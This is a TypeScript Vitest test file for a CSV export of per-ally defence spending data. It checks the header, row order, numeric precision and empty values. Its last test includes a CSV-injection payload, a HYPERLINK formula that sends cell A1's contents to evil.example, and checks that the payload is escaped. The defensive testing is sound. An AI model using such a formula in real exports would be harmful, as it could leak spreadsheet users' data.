import { describe, it, expect } from 'vitest';
import { CSV_COLUMNS, renderCsv } from '../../../shared/report/index.ts';
import { parseCsv } from '../../helpers/csv-parse.ts';
import { makeDataset } from '../../helpers/dataset.ts';
import { HOSTILE, hostileDataset } from '../../helpers/hostile.ts';

const read = (bytes: Buffer) => {
  const [header, ...rows] = parseCsv(bytes.toString('utf8'));
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
};

describe('renderCsv', () => {
  it('writes a header and one row per ally and year, without a byte-order mark', () => {
    // Prepare / Act
    const bytes = renderCsv(makeDataset());
    const [header, ...rows] = parseCsv(bytes.toString('utf8'));

    // Assess: ALB 3 years, DEU 2, ISL none, USA 2
    expect(bytes.subarray(0, 4).toString('utf8')).toBe('iso3');
    expect(header).toEqual(CSV_COLUMNS.map((c) => c.name));
    expect(rows.map((r) => `${r[0]} ${r[2]}`)).toEqual(['ALB 2024', 'ALB 2025', 'ALB 2026', 'DEU 2025', 'DEU 2026', 'USA 2025', 'USA 2026']);
    expect(rows.every((r) => r.length === header!.length)).toBe(true);
  });

  it('parses back to the same numbers at full precision', () => {
    // Prepare
    const dataset = makeDataset();

    // Act
    const rows = read(renderCsv(dataset));

    // Assess
    for (const row of rows) {
      const y = dataset.allies.find((a) => a.iso3 === row.iso3)!.years.find((v) => v.year === Number(row.year))!;
      expect([row.core_pct, row.security_pct, row.combined_pct, row.gdp_usd].map(Number)).toEqual([y.corePct, y.securityPct, y.combinedPct, y.usd.gdp]);
      expect(row.core_status).toBe(y.tracks.core.status);
    }
    // ALB 2024: security 2345.67 of GDP 2000000 = 0.1172835%
    expect(Number(rows[0]!.security_pct)).toBeCloseTo(0.1172835, 12);
  });

  it('leaves missing values empty and spells booleans', () => {
    // Prepare / Act
    const [alb2024] = read(renderCsv(makeDataset()));

    // Assess: 2024 is before the baseline, so there is no path; the breakdown has no infrastructure
    expect([alb2024!.core_path, alb2024!.core_infrastructure, alb2024!.two_percent, alb2024!.illustrative]).toEqual(['', '', 'false', 'false']);
  });

  it('neutralises formula-looking text and quotes fields with commas and quotes', () => {
    // Prepare / Act
    const text = renderCsv(hostileDataset()).toString('utf8');
    const [alb2024] = read(Buffer.from(text));

    // Assess
    expect(alb2024!.file).toBe(`'${HOSTILE.formulaFile}`);
    expect(alb2024!.submission_id).toBe(`'${HOSTILE.atSubmission}`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
